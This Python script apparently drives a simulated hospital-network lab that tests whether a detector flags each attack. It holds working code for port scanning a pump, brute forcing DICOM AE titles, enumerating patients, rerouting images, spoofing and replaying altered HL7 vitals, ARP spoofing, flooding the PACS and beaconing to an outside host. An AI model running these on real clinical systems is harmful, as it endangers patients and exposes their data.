"""The attacks. Run inside the attacker's namespace: attacks.py NAME WORKDIR."""

import socket
import struct
import subprocess
import sys
import time

import hl7
from hosts import BY_KEY, OUTSIDE

PACS = BY_KEY["pacs"].ip
ENGINE = BY_KEY["engine"].ip

# name, scenario of the verdict that must name it, attacker, victim, what happens
ATTACKS = [
    ("port scan", "net.scan.ports", "laptop", "pump1"),
    ("telnet to a ventilator", "net.cleartext", "laptop", "vent1"),
    ("AE titles guessed", "dicom.ae.brute_force", "rogue", "pacs"),
    ("unknown AE title accepted", "dicom.ae.unknown", "rogue", "pacs"),
    ("all patients listed", "dicom.find.enumeration", "rogue", "pacs"),
    ("images moved to a new destination", "dicom.move.destination", "viewer", "pacs"),
    ("report from an unknown HL7 sender", "hl7.sender.unknown", "rogue", "engine"),
    ("old HL7 message sent again, changed", "hl7.control_id.replayed", "mon2", "engine"),
    ("ARP spoofing of the interface engine", "net.arp.spoof", "laptop", "engine"),
    ("ventilator calls an outside address", "net.peer.external", "vent2", OUTSIDE),
    ("association flood", "dicom.association.flood", "laptop", "pacs"),
    ("DICOM data before an association", "dicom.state.violation", "laptop", "pacs"),
]


def run(*args):
    subprocess.run(args, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, check=False)


def associate_rq(calling, called):
    """A-ASSOCIATE-RQ for Verification (PS3.8 9.3.2): header, application context, one presentation context, user items."""
    def item(kind, body):
        return struct.pack("!BBH", kind, 0, len(body)) + body
    context = item(0x20, bytes([1, 0, 0, 0]) + item(0x30, b"1.2.840.10008.1.1") + item(0x40, b"1.2.840.10008.1.2"))
    user = item(0x50, item(0x51, struct.pack("!I", 16384)) + item(0x52, b"2.25.771") + item(0x55, b"PROBE_1"))
    body = (struct.pack("!HH", 1, 0) + called.ljust(16).encode() + calling.ljust(16).encode() + b"\0" * 32
            + item(0x10, b"1.2.840.10008.3.1.1.1") + context + user)
    return struct.pack("!BBI", 1, 0, len(body)) + body


def echo_pdata():
    """A C-ECHO-RQ in one P-DATA-TF (PS3.7 9.3.5)."""
    def el(element, value):
        return struct.pack("<HHI", 0, element, len(value)) + value
    body = (el(0x0002, b"1.2.840.10008.1.1\0") + el(0x0100, struct.pack("<H", 0x30))
            + el(0x0110, struct.pack("<H", 1)) + el(0x0800, struct.pack("<H", 0x0101)))
    command = el(0x0000, struct.pack("<I", len(body))) + body
    pdv = struct.pack("!IBB", len(command) + 2, 1, 3) + command
    return struct.pack("!BBI", 4, 0, len(pdv)) + pdv


def read_some(s):
    s.settimeout(1)
    try:
        return s.recv(4096)
    except OSError:
        return b""


def port_scan(_work):
    run("nmap", "-n", "-Pn", "-sS", "-T4", "--max-retries", "1", "-p", "1-300", BY_KEY["pump1"].ip)


def telnet(_work):
    s = socket.create_connection((BY_KEY["vent1"].ip, 23), 3)
    s.sendall(b"\xff\xfd\x01\xff\xfd\x03\xff\xfc\x18")
    read_some(s)
    for line in (b"service\r\n", b"service\r\n", b"uptime\r\n", b"exit\r\n"):
        time.sleep(0.4)
        s.sendall(line)
        read_some(s)
    s.close()


def brute_force(_work):
    for called in ("PACS", "ORTHANC", "CONQUESTSRV1", "DCM4CHEE", "ARCHIVE", "STORESCP", "DICOM", "QRSCP", "IMAGES",
                   "VNA", "MAINPACS", "RADPACS", "HOSPITAL", "MINIPACS"):
        run("echoscu", "-q", "-aet", "SCOUT", "-aec", called, PACS, "11112")
        time.sleep(0.15)


def unknown_ae(_work):
    run("echoscu", "-q", "-aet", "SCOUT", "-aec", "WARDPACS", PACS, "11112")


def enumeration(_work):
    for keys in (("0010,0010=*",), ("0010,0010",), ("0010,0020=*",)):
        args = [a for k in keys for a in ("-k", k)]
        run("findscu", "-q", "-P", "-aet", "SCOUT", "-aec", "WARDPACS", PACS, "11112",
            "-k", "0008,0052=PATIENT", "-k", "0010,0020", *args)
        time.sleep(0.3)


def move(_work):
    for person in (3, 5, 8):
        run("movescu", "-q", "-S", "-aet", "VIEWER1", "-aec", "WARDPACS", "-aem", "RESEARCH", PACS, "11112",
            "-k", "0008,0052=STUDY", "-k", f"0020,000D=2.25.77{person:010d}")


def unknown_sender(_work):
    link = hl7.Link(ENGINE)
    for n in range(3):
        link.send(hl7.oru("GATEWAY9", "NOWHERE", f"X{n:05d}", "P90001",
                          [("147842^MDC_ECG_HEART_RATE", 30, "264864^MDC_DIM_BEAT_PER_MIN")]))
        time.sleep(0.3)
    link.close()


def replay(work):
    with open(f"{work}/last-mon2.hl7", newline="") as f:
        text = f.read()
    segments = text.split("\r")
    changed = [s.replace("|R|||", "|F|||") if s.startswith("OBX") else s for s in segments]
    for i, s in enumerate(changed):
        if s.startswith("OBX|1|"):
            fields = s.split("|")
            fields[5] = "188"
            changed[i] = "|".join(fields)
    time.sleep(1)
    link = hl7.Link(ENGINE)
    link.send("\r".join(changed))
    link.close()


def arp_spoof(_work):
    """Tells monitor 1 that the engine lives at the laptop; the laptop forwards, so care goes on. Then puts it right."""
    me, engine, victim = BY_KEY["laptop"], BY_KEY["engine"], BY_KEY["mon1"]

    def mac(text):
        return bytes.fromhex(text.replace(":", ""))

    def reply(s, claimed_mac):
        arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + mac(claimed_mac) + socket.inet_aton(engine.ip) \
            + mac(victim.mac) + socket.inet_aton(victim.ip)
        s.send(mac(victim.mac) + mac(me.mac) + b"\x08\x06" + arp + b"\0" * 18)

    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
        s.bind(("eth0", 0x0806))
        for _ in range(5):
            reply(s, me.mac)
            time.sleep(1)
        reply(s, engine.mac)


def call_home(_work):
    s = socket.create_connection((OUTSIDE, 8443), 3)
    s.sendall(b"\x16\x03\x01\x00\x20" + bytes(range(32)))
    for n in range(10):
        s.sendall(bytes((i * 7 + n) & 255 for i in range(1200)))
        time.sleep(0.2)
    s.close()


def flood(_work):
    held = []
    for n in range(80):
        s = socket.create_connection((PACS, 11112), 3)
        s.sendall(associate_rq("CT1", "WARDPACS"))
        held.append(s)
        time.sleep(0.03)
    time.sleep(0.5)
    for s in held:
        s.close()


def violation(_work):
    s = socket.create_connection((PACS, 11112), 3)
    s.sendall(echo_pdata())  # no association yet
    read_some(s)
    s.close()
    time.sleep(0.3)
    s = socket.create_connection((PACS, 11112), 3)
    s.sendall(associate_rq("CT1", "WARDPACS"))
    read_some(s)
    s.sendall(associate_rq("CT1", "WARDPACS"))  # a second request on a living association
    read_some(s)
    s.close()


RUN = dict(zip((a[0] for a in ATTACKS), (
    port_scan, telnet, brute_force, unknown_ae, enumeration, move, unknown_sender, replay, arp_spoof, call_home,
    flood, violation)))

if __name__ == "__main__":
    RUN[sys.argv[1]](sys.argv[2])
